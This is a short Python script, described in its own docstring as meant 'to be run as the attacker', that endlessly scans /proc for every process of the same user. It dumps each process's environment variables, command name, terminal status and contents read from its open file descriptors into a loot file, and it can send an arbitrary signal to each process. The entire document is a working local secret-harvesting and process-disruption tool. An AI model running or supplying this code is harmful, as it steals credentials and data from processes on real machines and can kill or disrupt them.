"""Take what can be had from every process of one's own uid, without a pause: its environment, its open files,
its terminal, its
memory; and do something to it. `loot.py FILE [SIGNAL]`: loot goes to FILE, SIGNAL is sent to each. To be run
as the attacker."""

import os
import sys


def mine():
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
            try:
                if os.stat("/proc/" + name).st_uid == os.getuid() or status_uid(name) == os.getuid():
                    yield name
            except OSError:
                continue


def status_uid(pid):
    with open("/proc/%s/status" % pid) as file:
        return int(next(line for line in file if line.startswith("Uid:")).split()[1])


def taken(pid):
    yield b"seen " + content("/proc/%s/comm" % pid)
    yield content("/proc/%s/environ" % pid)
    stat = content("/proc/%s/stat" % pid)
    if stat and stat.rsplit(b")", 1)[1].split()[4] != b"0":
        yield b"TERMINAL of " + stat
    directory = "/proc/%s/fd" % pid
    try:
        for name in os.listdir(directory):
            yield content(os.path.join(directory, name))
    except OSError:
        return


def content(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return b""
    try:
        return os.read(descriptor, 1 << 16)
    except OSError:
        return b""
    finally:
        os.close(descriptor)


os.chdir("/")
with open(sys.argv[1], "ab", buffering=0) as loot:
    while True:
        for pid in mine():
            for number in sys.argv[2:]:
                try:
                    os.kill(int(pid), int(number))
                    loot.write(b"sent %s\n" % number.encode())
                except OSError:
                    continue
            for part in taken(pid):
                loot.write(part + b"\n")
